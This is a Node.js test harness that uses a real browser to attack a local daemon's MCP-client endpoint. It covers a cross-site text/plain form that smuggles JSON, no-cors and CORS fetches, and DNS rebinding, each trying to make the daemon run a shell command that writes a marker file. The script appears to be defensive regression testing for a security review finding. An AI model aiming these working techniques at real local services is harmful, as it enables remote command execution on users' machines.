// attack.mjs - a web page attacks the daemon from a real browser
// (Debian's Chromium, driven by playwright-core): the attacks of the
// security review's first finding, each trying to make the daemon run a
// command (a stdio client whose command writes the file MARKER).
//
//   form     an HTML form on another origin auto-posts a text/plain
//            body that is JSON (the classic cross-site form trick);
//   nocors   fetch(mode: 'no-cors', Content-Type: text/plain) of the
//            same JSON: a "simple" request, no preflight;
//   cors     fetch with Content-Type: application/json: the browser
//            asks first (OPTIONS), which the daemon does not allow;
//   rebind   DNS rebinding: the page is at http://rebind.test:PORT (the
//            daemon's port), and the name then points at 127.0.0.1, so
//            the page's own same-origin POST reaches the daemon with
//            Host: rebind.test:PORT (Chromium's host resolver rules
//            stand in for the attacker's DNS server, which cannot run
//            here).
//
// Usage: node attack.mjs DAEMON_BASE MARKER
// Prints "attack done 1" and one "result NAME VALUE" line per attack
// (the status the page could see, or what blocked it); exits 0 when the
// browser ran every attack (the C test judges the outcome).
import http from 'node:http';
import process from 'node:process';
import { launch } from './browser.mjs';

const [base, marker] = process.argv.slice(2);
if (!base || !marker) {
	process.stderr.write('usage: node attack.mjs DAEMON_BASE MARKER\n');
	process.exit(2);
}
const port = new URL(base).port;
const client = (name) => JSON.stringify({
	name, connection_type: 'stdio',
	stdio_config: { command: 'sh', args: ['-c', `echo pwned > ${marker}`] },
});

// The attacker's own site, on another origin.
const site = http.createServer((req, res) => {
	const body = client('pwn_form');
	// text/plain form: name + '=' + value is the body; the value closes
	// the JSON the name opened
	const name = body.slice(0, -1) + ',"x":"';
	const page = `<!doctype html><html><body>
<iframe name="sink"></iframe>
<form id="f" method="POST" enctype="text/plain" target="sink"
      action="${base}/api/mcp/client">
<input type="hidden" name='${name}' value='"}'>
</form>
<script>
window.results = {};
document.getElementById('f').submit();
fetch('${base}/api/mcp/client', { method: 'POST', mode: 'no-cors',
  headers: { 'Content-Type': 'text/plain' }, body: ${JSON.stringify(client('pwn_nocors'))} })
  .then((r) => { window.results.nocors = 'opaque ' + r.type; })
  .catch((e) => { window.results.nocors = 'blocked ' + e.name; });
fetch('${base}/api/mcp/client', { method: 'POST',
  headers: { 'Content-Type': 'application/json' }, body: ${JSON.stringify(client('pwn_cors'))} })
  .then((r) => { window.results.cors = 'status ' + r.status; })
  .catch((e) => { window.results.cors = 'blocked ' + e.name; });
</script></body></html>`;
	res.writeHead(200, { 'Content-Type': 'text/html' });
	res.end(page);
});
await new Promise((ok) => site.listen(0, '127.0.0.1', ok));
const evil = `http://attacker.test:${site.address().port}`;

const browser = await launch([
	'--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP rebind.test 127.0.0.1',
	// the browser's own guard of local addresses off: the daemon's checks
	// must hold alone (not every browser or client has it)
	'--disable-features=LocalNetworkAccessChecks,' +
		'BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,' +
		'PrivateNetworkAccessRespectPreflightResults']);
let code = 0;
try {
	const ctx = await browser.newContext();
	const page = await ctx.newPage();
	// the form's answer lands in the iframe (cross-origin: unreadable
	// by the page, seen here)
	const form = page.waitForResponse((r) => r.url() === `${base}/api/mcp/client` &&
		r.request().resourceType() === 'document', { timeout: 20000 });
	await page.goto(evil + '/');
	console.log(`result form ${(await form).status()}`);
	await page.waitForFunction(() => window.results.nocors && window.results.cors,
		null, { timeout: 20000 });
	const r = await page.evaluate(() => window.results);
	console.log(`result nocors ${r.nocors}`);
	console.log(`result cors ${r.cors}`);

	// DNS rebinding: the document is served as the attacker's (its first
	// answer), the page's own fetch then reaches the daemon
	const rb = await ctx.newPage();
	const origin = `http://rebind.test:${port}`;
	await rb.route(`${origin}/`, (route) => route.fulfill({
		status: 200, contentType: 'text/html',
		body: '<!doctype html><html><body>rebound</body></html>',
	}));
	await rb.goto(origin + '/');
	const st = await rb.evaluate(async (body) => {
		const res = await fetch('/api/mcp/client', { method: 'POST',
			headers: { 'Content-Type': 'application/json' }, body });
		return res.status + ' ' + (await res.text());
	}, client('pwn_rebind'));
	console.log(`result rebind ${st}`);
	console.log('attack done 1');
} catch (e) {
	console.log(`attack failed: ${e.message}`);
	code = 1;
} finally {
	await browser.close();
	site.close();
}
process.exit(code);
